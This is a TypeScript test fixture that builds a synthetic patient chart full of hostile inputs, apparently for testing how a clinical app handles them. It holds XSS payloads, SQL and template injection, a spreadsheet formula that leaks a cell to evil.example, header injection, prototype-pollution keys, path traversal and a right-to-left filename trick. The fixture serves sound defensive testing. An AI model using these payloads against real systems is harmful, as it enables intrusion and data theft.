import { addAllergy, addMedicationRequest, addProblem } from '#making/add-clinical.ts'
import { addLab, addObservation } from '#making/add-observation.ts'
import { addPatient } from '#making/add-patient.ts'
import { addNote, asBinary, inline, noteTypes } from '#making/add-report.ts'
import { openChartMaker } from '#making/chart-maker.ts'
import { concept, conceptCalled, loinc, rxnorm, snomed } from '#making/codings.ts'
import { quantity } from '#making/decimal.ts'
import type { PersonAt } from '#people/person-at.ts'
import { hostileHtmlNote, hostileRtfNote } from '#people/zerelda-markup/hostile-notes.ts'

export const zereldaMarkup: PersonAt = { id: 'zerelda-markup', name: 'Zerelda <b>Markup</b> 🦩', makeResources }

const RIGHT_TO_LEFT = '\u202Egnp.exe\u202C'

/** Hostile content: markup, formulas, very long words, unusual keys. */
function makeResources() {
  const chart = openChartMaker('zerelda-markup', 'Zerelda <b>Markup</b> 🦩')
  addPatient(
    chart,
    {
      given: ['Zerelda', '"><img src=x onerror=alert(1)>'],
      family: '<b>Markup</b> 🦩',
      gender: 'other',
      birthDate: '2000-02-29',
      street: "1 O'Brien; DROP TABLE patients;--",
      city: 'مدينة',
    },
    {
      name: [
        { use: 'official', family: '<b>Markup</b> 🦩', given: ['Zerelda', '"><img src=x onerror=alert(1)>'] },
        { use: 'nickname', text: `שרה ${RIGHT_TO_LEFT}` },
        { use: 'old', text: '👩🏽‍⚕️ Zoe\u0301 \u0000null' },
      ],
      text: {
        status: 'generated',
        div: '<div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script>Zerelda</div>',
      },
    },
  )
  addProblem(chart, conceptCalled('<script>alert("problem")</script>Migraine', snomed('37796009', 'Migraine')), '2015')
  addProblem(chart, conceptCalled('{{constructor.constructor("alert(1)")()}} ${7*7}'), '2016')
  addProblem(chart, conceptCalled(`A very long name: ${'pneumono'.repeat(12_500)}`), '2017')
  addAllergy(chart, conceptCalled('=HYPERLINK("https://evil.example/?leak="&A1,"Penicillin")'))
  addAllergy(chart, conceptCalled(`${RIGHT_TO_LEFT}Latex &amp; <i>rubber</i>`, snomed('111088007', 'Latex')))
  addMedicationRequest(chart, '2026-01-01', {
    medicationCodeableConcept: conceptCalled('@SUM(1+1)*cmd|aspirin', rxnorm('243670', 'aspirin 81 MG Oral Tablet')),
    dosageInstruction: [{ text: 'Take 1 <iframe src="https://evil.example"></iframe> a day\r\n\r\nSet-Cookie: a=b' }],
  })
  addLab(chart, loinc('2345-7', 'Glucose'), {
    on: '2026-01-01',
    value: quantity('99', '<img src=x onerror=alert(1)>', 'mg/dL'),
  })
  addLab(chart, loinc('2951-2', 'Sodium'), {
    on: '2026-01-01',
    value: quantity('140.000000000000000000000000001', 'mmol/L'),
  })
  addLab(chart, loinc('2823-3', 'Potassium'), { on: '9999-12-31', value: quantity('1e400', 'mmol/L') })
  const odd = JSON.parse(
    '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}},"valueString":"odd keys"}',
  ) as object
  const withOddKeys = Object.create(null) as Record<string, unknown>
  for (const [key, value] of Object.entries(odd)) {
    Object.defineProperty(withOddKeys, key, { value, enumerable: true })
  }
  addObservation(chart, 'laboratory', concept(loinc('5778-6', 'Color of Urine')), {
    on: '2026-01-01',
    valueString: 'odd keys inside',
    extension: [withOddKeys],
  })
  addObservation(chart, 'survey', concept(loinc('8251-1', 'Service comment')), {
    on: '2026-01-01',
    extension: [nest(200)],
    valueString: 'two hundred deep',
  })
  addNote(chart, noteTypes.progress, {
    on: '2026-01-01T00:00:00Z',
    content: [inline('text/html', hostileHtmlNote, '../../etc/passwd.html')],
  })
  addNote(chart, noteTypes.progress, {
    on: '2026-01-02T00:00:00Z',
    content: [asBinary(chart, 'text/html', hostileHtmlNote)],
  })
  addNote(chart, noteTypes.progress, {
    on: '2026-01-03T00:00:00Z',
    content: [inline('text/rtf', hostileRtfNote, `visit${RIGHT_TO_LEFT}`)],
  })
  addNote(chart, noteTypes.progress, {
    on: '2026-01-04T00:00:00Z',
    content: [inline('application/pdf', '<html><script>alert(1)</script></html>', 'Not a PDF')],
  })
  addNote(chart, noteTypes.progress, {
    on: '2026-01-05T00:00:00Z',
    content: [inline('image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  })
  addNote(chart, noteTypes.progress, {
    on: '2026-01-06T00:00:00Z',
    content: [{ contentType: 'text/html', url: 'https://evil.example/note.html' }],
  })
  addNote(chart, noteTypes.progress, {
    on: '2026-01-07T00:00:00Z',
    content: [{ contentType: 'text/html', url: 'javascript:alert(1)' }],
  })
  addNote(chart, noteTypes.progress, {
    on: '2026-01-08T00:00:00Z',
    content: [{ contentType: 'text/plain', data: 'not base64 at all!' }],
  })
  return chart.list()
}

function nest(depth: number): object {
  const inner = { url: 'https://deep.example', valueString: 'bottom' }
  return depth === 0 ? inner : { url: 'https://deep.example', extension: [nest(depth - 1)] }
}
